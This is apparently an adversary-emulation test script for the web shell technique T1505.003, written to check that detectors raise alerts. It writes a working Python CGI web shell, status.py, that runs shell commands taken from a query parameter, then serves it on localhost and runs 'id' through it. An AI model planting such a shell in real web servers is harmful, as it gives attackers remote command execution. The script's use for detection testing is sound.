# technique: T1505.003
"""Server Software Component: Web Shell (T1505.003), a Python CGI web
shell dropped into an application's cgi-bin, then served and used.

Builds a small web root under HOME, drops cgi-bin/status.py (runs the
`c` query parameter with subprocess and prints the output), serves the
root with http.server's CGIHTTPRequestHandler on 127.0.0.1:0 in a thread,
and requests /cgi-bin/status.py?c=id: the server runs the shell as a child
interpreter (subprocess, as on platforms without fork), which runs `id`
through /bin/sh.

A good detector raises a high alert: a file is written into a web
server's CGI/script directory, and a served script starts a shell command
taken from a request.
"""
import os as _os, pwd as _pwd, sys as _sys  # noqa: E401 (safety guard, not part of the attack)
if _os.path.realpath(_os.path.expanduser("~")) == _os.path.realpath(_pwd.getpwuid(_os.getuid()).pw_dir):
    _sys.exit("this attack writes under HOME: run it with HOME set to a scratch directory")
import http.server
import os
import sys
import threading
import urllib.request

home = os.path.expanduser("~")
root = os.path.join(home, "srv", "www")
cgi = os.path.join(root, "cgi-bin")
os.makedirs(cgi, exist_ok=True)
shell = os.path.join(cgi, "status.py")
with open(shell, "w") as f:
    f.write(f"#!{sys.executable}\n"
            "import os, subprocess, urllib.parse\n"
            "q = urllib.parse.parse_qs(os.environ.get('QUERY_STRING', ''))\n"
            "print('Content-Type: text/plain')\nprint()\n"
            "print(subprocess.run(q.get('c', ['true'])[0], shell=True, capture_output=True, text=True).stdout)\n")
os.chmod(shell, 0o755)


class Handler(http.server.CGIHTTPRequestHandler):
    # Run the script through subprocess rather than fork + setuid(nobody),
    # which could not read a HOME private to root.
    have_fork = False

    def log_message(self, *args):
        pass


os.chdir(root)
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
threading.Thread(target=server.serve_forever, daemon=True).start()
try:
    url = f"http://127.0.0.1:{server.server_address[1]}/cgi-bin/status.py?c=id"
    with urllib.request.urlopen(url, timeout=8) as r:
        print(r.read().decode()[:80])
finally:
    server.shutdown()
